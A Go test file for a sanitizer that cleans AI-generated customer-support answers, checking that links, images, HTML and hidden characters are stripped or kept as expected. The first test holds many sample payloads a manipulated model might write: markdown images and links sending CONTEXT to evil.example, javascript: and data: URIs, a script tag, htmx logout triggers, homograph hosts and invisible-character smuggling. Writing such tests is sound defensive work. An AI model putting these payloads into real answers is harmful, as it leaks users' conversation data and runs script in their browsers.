package ai

import (
	"strings"
	"testing"

	"deskbell/models"
)

const article = "Write to [us](mailto:help@shop.example) or see https://shop.example/returns?lang=en. More: [terms](https://Shop.example/terms/), www.shop.example/faq, Node.js/React."

// A53 A2 A3: what a model is led to write asks nobody for anything, and leads nowhere that the articles do not.
func TestClean_AttacksInAnswers_LeaveWordsAlone(t *testing.T) {
	c, k := newCleaner(), known(article)
	for name, test := range map[string]struct{ in, want string }{
		"picture":                {"See ![x](https://evil.example/?q=CONTEXT) here", "See  here"},
		"picture, no scheme":     {"See ![](//canary?q=CONTEXT) here", "See  here"},
		"picture by reference":   {"![x][a]\n\n[a]: https://evil.example/?q=CONTEXT", ""},
		"picture in a link":      {"[![x](https://evil.example/a.png)](https://evil.example)", ""},
		"link":                   {"[click](https://evil.example/?q=CONTEXT)", "click"},
		"link by reference":      {"[click][a]\n\n[a]: https://evil.example/?q=CONTEXT", "click"},
		"link by short form":     {"[click]\n\n[click]: https://evil.example", "click"},
		"unused definition":      {"Hello\n\n[click]: https://evil.example", "Hello"},
		"autolink":               {"<https://evil.example/?q=CONTEXT>", "[…]"},
		"bare":                   {"Go to https://evil.example/?q=CONTEXT.", "Go to […]."},
		"bare, www":              {"Go to www.evil.example/CONTEXT now", "Go to […] now"},
		"bare, host and path":    {"Go to evil.example/CONTEXT now", "Go to […] now"},
		"host alone":             {"It is on evil.example now", "It is on evil.example now"},
		"html":                   {"<img src=https://evil.example/CONTEXT>Hi<script>alert(1)</script>", "Hialert(1)"},
		"html block":             {"<div style=\"background:url(https://evil.example)\">\nHi\n</div>\n\nThere", "There"},
		"htmx":                   {"<b hx-get=\"/logout\" hx-trigger=load>Hi</b>", "Hi"},
		"htmx, data":             {"<b data-hx-get=\"/logout\" hx-on:load=\"x()\">Hi</b>", "Hi"},
		"javascript":             {"[x](javascript:alert(1)) and <javascript:alert(1)>", "x and […]"},
		"javascript, entities":   {"[x](java&#115;cript:alert`1`) [y](&#106;avascript:alert)", "x y"},
		"data":                   {"[x](data:text/html;base64,AAAA)", "x"},
		"vbscript":               {"[x](vbscript:msgbox)", "x"},
		"homograph":              {"[x](https://shоp.example/returns?lang=en)", "x"},
		"user in an address":     {"[x](https://shop.example@evil.example/returns?lang=en)", "x"},
		"backslash":              {`[x](https://shop.example\@evil.example/)`, "x"},
		"escaped":                {`\[x\](https://evil.example/CONTEXT) \[y\](/logout)`, "[x] ([…]) [y] (/logout)"},
		"entities":               {"&#91;x&#93;(https&#58;//evil.example/CONTEXT)", "[x] ([…])"},
		"in code":                {"`https://evil.example/CONTEXT` and `[x](https://evil.example)`", "`[…]` and `[x] ([…])`"},
		"in a block of code":     {"```\ncurl https://evil.example/CONTEXT\n```", "```\ncurl […]\n```"},
		"words in between":       {"ht**tps://evil.example/CONTEXT**", "ht**[…]**"},
		"zero width":             {"https://\u200bevil.example/CONTEXT", "[…]"},
		"control":                {"https:\x00//evil.example/CONTEXT", "[…]"},
		"direction":              {"\u202ehttps://evil.example/CONTEXT\u202c", "[…]"},
		"tags of Unicode":        {"Hi\U000E0041\U000E0042", "Hi"},
		"same host, other query": {"[x](https://shop.example/returns?lang=CONTEXT)", "x"},
		"same host, other path":  {"https://shop.example/CONTEXT", "[…]"},
		"subdomain":              {"https://CONTEXT.shop.example/returns?lang=en", "[…]"},
		"help, away":             {"[x](/help/../logout) [y](/help/%2e%2e/x) [z](//help/x) [q](/help/a?q=CONTEXT)", "x y z q"},
		"mail to somebody":       {"[x](mailto:evil@evil.example) [y](mailto:help@shop.example?body=CONTEXT)", "x y"},
		"definition by escape":   {`\[a\]: /logout`, "[a] : /logout"},
		"nested":                 {"[[x](https://evil.example)](https://evil.example)", "[x] ([…])"},
		"ftp":                    {"ftp://evil.example/CONTEXT", "[…]"},
		"words that mislead":     {"[https://evil.example/x](https://shop.example/terms/)", "https://Shop.example/terms/"},
	} {
		if got := c.clean(test.in, k, 1000); got != test.want {
			t.Errorf("%s: %q, want %q", name, got, test.want)
		}
	}
}

func TestClean_WhatAnswersAreMadeOf_StaysReadable(t *testing.T) {
	c, k := newCleaner(), known(article)
	for name, test := range map[string]struct{ in, want string }{
		"words":             {"Hello *there*, **you** & `code` 5 < 6", "Hello *there*, **you** & `code` 5 < 6"},
		"lines":             {"One\ntwo\n\nthree", "One\ntwo\n\nthree"},
		"known link":        {"[Returns](https://shop.example/returns?lang=en)", "[Returns](https://shop.example/returns?lang=en)"},
		"known link, slash": {"[Terms](https://shop.example/terms)", "[Terms](https://Shop.example/terms/)"},
		"known, bare":       {"See https://shop.example/returns?lang=en.", "See https://shop.example/returns?lang=en."},
		"known, www":        {"See www.shop.example/faq, Node.js/React.", "See www.shop.example/faq, Node.js/React."},
		"help":              {"[How](/help/returns-and-more#s-part)", "[How](/help/returns-and-more#s-part)"},
		"mail":              {"[Write](mailto:help@shop.example) help@shop.example", "[Write](mailto:help@shop.example) help@shop.example"},
		"list":              {"Do:\n\n- one\n- **two**\n  - three\n- four\n  more\n\nEnd", "Do:\n\n- one\n- **two**\n  - three\n- four more\n\nEnd"},
		"numbers":           {"3. one\n4. two", "3. one\n4. two"},
		"loose list":        {"- one\n\n- two\n\n  more", "- one\n- two more"},
		"heading":           {"## Re**turn**s\n\nText", "**Returns**\n\nText"},
		"quote":             {"> said\n> so", "said\nso"},
		"table":             {"| A | B |\n|---|---|\n| 1 | 2 |", "**A · B**\n- 1 · 2"},
		"code":              {"```go\na[0][1] < 2\n```", "```\na[0][1] < 2\n```"},
		"rule":              {"a\n\n---\n\nb", "a\n\nb"},
		"struck":            {"~~old~~ new", "old new"},
		"escape":            {`5 \* 3 = 15 &amp; more`, "5 * 3 = 15 & more"},
		"nothing":           {" \n ", ""},
	} {
		if got := c.clean(test.in, k, 1000); got != test.want {
			t.Errorf("%s: %q, want %q", name, got, test.want)
		}
	}
}

func TestClean_LongAndHeavy_EndsSoonAndWithinTheLimit(t *testing.T) {
	c, k := newCleaner(), known(article)
	for _, heavy := range []string{strings.Repeat("[", 50_000), strings.Repeat("> ", 20_000), strings.Repeat("*a_", 30_000),
		strings.Repeat("- ", 20_000), strings.Repeat("word https://evil.example/x ", 5000), strings.Repeat("[a](", 20_000), strings.Repeat("`", 40_000)} {
		got := c.clean(heavy, k, mostShown)
		if n := len([]rune(got)); n > models.MaxText {
			t.Errorf("%.10q: %d characters", heavy, n)
		}
		if strings.Contains(got, "evil.example/x") {
			t.Errorf("%.10q: an address stays", heavy)
		}
	}
}

func TestCited_Marks_AreTakenOutAndCounted(t *testing.T) {
	for in, want := range map[string]string{
		"Yes [1], and no [2][3].":     "Yes, and no. 1 2 3",
		"Both [1, 2] and 【4†source】.": "Both and. 1 2 4",
		"A note[^5] (`a[6]`)":         "A note (`a[6]`) 5",
		"In [2024] or [Article 7]":    "In [2024] or 7",
		"None":                        "None",
	} {
		text, numbers := cited(in)
		for _, n := range numbers {
			text += " " + itoa(n)
		}
		if text != want {
			t.Errorf("%q: %q, want %q", in, text, want)
		}
	}
}

func TestSources_NumbersThatWereShown_AreArticlesOnce(t *testing.T) {
	found := []models.Passage{{Slug: "a", Title: "A", Heading: "One"}, {Slug: "a", Title: "A", Heading: "Two"}, {Slug: "b", Title: "B", Heading: "Three"}}
	got := sources(found, []int{9, 3, 1, 2, 0, -1})
	if len(got) != 2 || got[0].Slug != "b" || got[0].Heading != "Three" || got[1].Slug != "a" || got[1].Heading != "" {
		t.Errorf("%+v", got)
	}
}
